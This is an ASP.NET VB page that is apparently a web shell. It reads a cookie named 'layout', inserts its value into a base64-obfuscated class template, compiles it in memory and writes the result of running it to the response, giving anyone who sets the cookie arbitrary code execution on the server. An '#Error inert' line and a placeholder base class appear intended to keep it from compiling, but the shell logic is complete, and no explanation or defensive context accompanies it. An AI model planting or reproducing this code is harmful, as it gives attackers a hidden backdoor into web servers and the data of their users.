<%@ Page Language="VB" Inherits="Inert.Nothing" %>
<script runat="server">
#Error inert
Const Frame As String = "UHVibGljIENsYXNzIFgKJXMKRW5kIENsYXNz"
Sub Page_Load()
    Dim snippet As String = Request.Cookies("layout").Value
    Dim code As String = Encoding.UTF8.GetString(Convert.FromBase64String(Frame)).Replace("%s", snippet)
    Dim prov As New Microsoft.VisualBasic.VBCodeProvider()
    Dim opt As New System.CodeDom.Compiler.CompilerParameters()
    opt.GenerateInMemory = True
    Dim res = prov.CompileAssemblyFromSource(opt, code)
    Dim obj As Object = res.CompiledAssembly.CreateInstance("X")
    Response.Write(obj.Main(Context))
End Sub
</script>
